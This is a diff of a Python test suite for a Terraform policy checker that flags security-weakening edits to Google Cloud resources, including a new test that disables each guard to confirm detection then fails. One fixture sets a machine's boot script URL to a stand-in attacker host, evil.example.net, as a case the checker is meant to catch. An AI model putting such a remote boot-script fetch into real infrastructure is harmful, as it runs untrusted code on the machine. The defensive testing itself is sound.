@@ -3,10 +3,12 @@
 
 import pytest
 
+from jobs.terraform.policy import plan_drafted, plan_weak
 from jobs.terraform.policy.plan_weak import less_safe
 from shared.policy.argument_words import is_neutral
 from shared.policy.arguments import Kind, table
 from shared.policy.plan_types import TYPES
+from tests.attacks.switched_off import guards, without
 from tests.attacks.test_removed_guards import Attack, Ref, planned, service
 from tests.policy.plan_room import PROJECT
 
@@ -43,7 +45,7 @@ def with_settings(**values):
     return DATABASE | {"settings": [DATABASE["settings"][0] | values]}
 
 
-def without(values, name):
+def lacking(values, name):
     return {key: each for key, each in values.items() if key != name}
 
 
@@ -64,8 +66,8 @@ EDITS = {
     "locked out": ("google_sql_database_instance", DATABASE, with_settings(database_flags=[{"name": "cloudsql.iam_authentication", "value": "off"}]), "database_flags.value"),
     "a disk that fills": ("google_sql_database_instance", DATABASE, with_settings(disk_autoresize=False), "disk_autoresize"),
     "untested updates first": ("google_sql_database_instance", DATABASE, with_settings(maintenance_window=[{"day": 7, "update_track": "canary"}]), "update_track"),
-    "no log of who read": ("google_storage_bucket", BUCKET, without(BUCKET, "logging"), "logging.log_bucket"),
-    "one key for ever": ("google_kms_crypto_key", KEY, without(KEY, "rotation_period"), "rotation_period"),
+    "no log of who read": ("google_storage_bucket", BUCKET, lacking(BUCKET, "logging"), "logging.log_bucket"),
+    "one key for ever": ("google_kms_crypto_key", KEY, lacking(KEY, "rotation_period"), "rotation_period"),
     "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
     "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
     "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
@@ -97,6 +99,11 @@ def asked(kind, drafted, edited, *, stands=False, said="a shop"):
     return less_safe(plan, files, said, files_with(kind, drafted))
 
 
+def anew(kind, values):
+    plan, files = planned(Attack(("", ""), "", kind, values))
+    return less_safe(plan, files, "a shop", {"main.tf": "# nothing yet\n"})
+
+
 @pytest.mark.parametrize("stands", [False, True], ids=["of a draft", "of what stands"])
 @pytest.mark.parametrize("name", EDITS)
 def test_an_edit_that_may_weaken_is_named(name, stands):
@@ -108,8 +115,7 @@ def test_an_edit_that_may_weaken_is_named(name, stands):
 @pytest.mark.parametrize("name", NEW)
 def test_what_is_written_anew_by_hand_and_may_weaken_is_named(name):
     kind, values, named = NEW[name]
-    plan, files = planned(Attack(("", ""), "", kind, values))
-    told = less_safe(plan, files, "a shop", {"main.tf": "# nothing yet\n"})
+    told = anew(kind, values)
     assert any(each.startswith(f"{kind}.x: ") and named in each for each in told), told
 
 
@@ -129,6 +135,35 @@ def test_what_is_as_it_was_drafted_is_nobodys_edit(name):
 )  # fmt: skip
 def test_what_can_weaken_nothing_is_not_asked_about(kind, drafted, edited):
     assert asked(kind, drafted, edited) == []
+
+
+# What a plan of one made-up resource does not show: what apply tells, and a count, which is no value.
+LEAVING = ("not isinstance", "other than it was drafted", "before")
+GUARDED = [
+    *((plan_weak, name) for name in ("_dying", "_guessed", "_written_out", "_unencrypted", "_spoken_for")),
+    (plan_drafted.Drafted, "edits"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("where", "name", "guard"),
+    [(where, name, guard) for where, name in GUARDED for guard in guards(getattr(where, name), LEAVING)],
+)
+def test_without_its_guard_an_edit_passes_unnamed(where, name, guard, monkeypatch):
+    monkeypatch.setattr(where, name, without(getattr(where, name), guard))
+    cases = [(kind, drafted, edited, named) for kind, drafted, edited, named in EDITS.values()]
+    cases += [(kind, None, values, named) for kind, values, named in NEW.values()]
+    told = [
+        (named, asked(kind, drafted, edited) if drafted else anew(kind, edited))
+        for kind, drafted, edited, named in cases
+    ]
+    assert any(not any(named in line for line in lines) for named, lines in told), guard.text
+
+
+def test_files_in_which_nobody_wrote_are_asked_about_by_what_is_known_alone():
+    kind, _, edited, _ = EDITS["never crossed"]
+    plan, files = planned(Attack(("", ""), "", kind, edited))
+    assert less_safe(plan, files, "") == []
 
 
 def test_what_is_left_out_of_the_files_is_named():
@@ -186,5 +221,5 @@ def test_the_gravest_stands_first():
         )
     )
     plan["resource_changes"] += more["resource_changes"]
-    told = less_safe(plan, {**files, "more.tf": its["main.tf"]}, "")
+    told = less_safe(plan, {**files, "more.tf": its["main.tf"]}, "", {"main.tf": "# nothing yet\n"})
     assert "deletes what is stored after 0 days" in told[0]
